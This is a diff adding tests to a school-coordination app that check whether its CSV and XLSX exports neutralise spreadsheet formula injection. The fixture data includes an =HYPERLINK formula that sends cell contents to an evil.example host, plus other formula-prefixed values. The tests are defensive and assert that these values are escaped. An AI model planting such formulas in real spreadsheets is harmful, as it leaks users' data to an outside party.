@@ -105,3 +105,96 @@ def test_annual_report_pdf_opens_and_contains_the_key_figures(users, login_as):
     # The municipality table: Lippstadt has one member school with one project and one activity.
     assert "Lippstadt 1" in text.replace("\n", " ")
     assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.report")).one()
+
+
+# --- formula injection, content type, file names ---------------------------------------------------------------
+
+FORMULAS = {
+    "school": '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
+    "patron": "+49 2941 1234",
+    "title": "=2+3",
+    "type": "@SUMME(1;2)",
+}
+
+
+def _hostile_world(users) -> int:
+    year = current_school_year()
+    school = SchoolFactory(name=FORMULAS["school"], municipality="Lippstadt", admitted_on=date(year - 1, 9, 1))
+    db.session.add(Patron(school_id=school.id, name=FORMULAS["patron"]))
+    db.session.commit()
+    ActivityFactory(
+        school=school,
+        title=FORMULAS["title"],
+        activity_type=FORMULAS["type"],
+        start_date=date(year, 11, 9),
+        participants=42,
+    )
+    ActivityFactory(school=users["school_b"], title="-\tTabulator\rund Wagenrücklauf", start_date=date(year, 12, 1))
+    return year
+
+
+def _neutralised(value: str) -> bool:
+    return value.startswith("'") and not value.startswith("''")
+
+
+def test_csv_exports_prefix_text_that_excel_would_evaluate(users, login_as):
+    year = _hostile_world(users)
+    client = login_as("ki")
+    schools = client.get(f"/koordination/export/schulen.csv?jahr={year}").data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(schools), delimiter=";"))
+    row = next(r for r in rows if FORMULAS["school"] in r[0])
+    assert row[0] == "'" + FORMULAS["school"]
+    assert row[9] == "'" + FORMULAS["patron"]
+    assert row[5] == date(year - 1, 9, 1).strftime("%d.%m.%Y")  # dates and numbers are left alone
+    assert row[7] == "1"
+    activities = client.get(f"/koordination/export/aktivitaeten.csv?jahr={year}").data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(activities), delimiter=";"))
+    hostile = next(r for r in rows if r[2].endswith(FORMULAS["title"]))
+    assert hostile[0] == "'" + FORMULAS["school"]
+    assert hostile[2] == "'=2+3"
+    assert hostile[5] == "'" + FORMULAS["type"]
+    assert hostile[8] == "42"
+    control = next(r for r in rows if "Tabulator" in r[2])
+    assert control[2] == "'-\tTabulator\rund Wagenrücklauf"
+    for row in rows[1:]:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_xlsx_exports_write_typed_text_as_text_cells_never_formulas(users, login_as):
+    year = _hostile_world(users)
+    client = login_as("ki")
+    for path in (f"schulen.xlsx?jahr={year}", f"aktivitaeten.xlsx?jahr={year}"):
+        book = openpyxl.load_workbook(io.BytesIO(client.get(f"/koordination/export/{path}").data))
+        cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value is not None]
+        assert cells
+        assert all(cell.data_type != "f" for cell in cells)
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert "'" + FORMULAS["school"] in texts
+        for text in texts:
+            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
+    activities = book.active
+    row = next(r for r in activities.iter_rows(min_row=2) if r[2].value == "'=2+3")
+    assert row[2].data_type == "s" and _neutralised(row[2].value)
+    assert row[5].value == "'" + FORMULAS["type"]
+    assert row[3].value.date() == date(year, 11, 9) and row[3].is_date  # dates stay dates
+    assert row[8].value == 42 and row[8].data_type == "n"  # numbers stay numbers
+
+
+def test_csv_content_type_names_its_charset_once(users, login_as):
+    year = _world(users)
+    client = login_as("ki")
+    for path in (f"schulen.csv?jahr={year}", f"aktivitaeten.csv?jahr={year}"):
+        response = client.get(f"/koordination/export/{path}")
+        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_export_and_report_download_names_are_plain_ascii_slugs(users, login_as):
+    year = _world(users)
+    SchoolFactory(name="Gesamtschule Möhnesee", municipality="Möhnesee")
+    client = login_as("ki")
+    report = client.get(f"/koordination/jahresbericht.pdf?jahr={year}&gemeinde=Möhnesee")
+    assert report.status_code == 200
+    assert report.headers["Content-Disposition"] == f"attachment; filename=jahresbericht-{year}-moehnesee.pdf"
+    export = client.get(f"/koordination/export/aktivitaeten.xlsx?jahr={year}")
+    assert export.headers["Content-Disposition"] == f"attachment; filename=aktivitaeten-{year}.xlsx"
